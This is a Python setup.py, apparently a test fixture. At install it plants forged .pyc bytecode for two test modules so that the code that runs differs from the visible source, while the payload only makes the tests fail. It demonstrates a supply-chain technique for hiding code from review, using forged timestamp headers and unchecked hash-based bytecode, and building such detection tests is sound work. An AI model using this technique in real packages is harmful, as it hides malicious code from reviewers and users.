# An sdist whose setup.py poisons bytecode at install, as a malicious one
# would: it plants, for two modules of the project's tests that the test
# phase imports, a .pyc whose code differs from the source's. One is
# timestamp-based, its header copying the source's time and size (Python
# loads it without reading the source); the other an unchecked hash-based
# one (flags 0b01: never compared with the source). The report of the
# test phase shows only the innocent .py files. Should the planted code
# run, VALUE is 2 and the tests fail.
import importlib.util
import marshal
import os
import struct

from setuptools import setup

here = os.path.dirname(os.path.abspath(__file__))
for name, flags in (("helper", 0), ("helper2", 0b01)):
    src = os.path.join(here, "tests", name + ".py")
    st = os.stat(src)
    code = compile("VALUE = 2\n", src, "exec")
    if flags == 0:
        header = struct.pack("<4sIII", importlib.util.MAGIC_NUMBER, 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF)
    else:
        header = struct.pack("<4sI8s", importlib.util.MAGIC_NUMBER, flags, b"\0" * 8)
    pyc = importlib.util.cache_from_source(src)
    os.makedirs(os.path.dirname(pyc), exist_ok=True)
    with open(pyc, "wb") as f:
        f.write(header + marshal.dumps(code))

setup(name="pycpoison", version="0.1", packages=["pycpoison"])
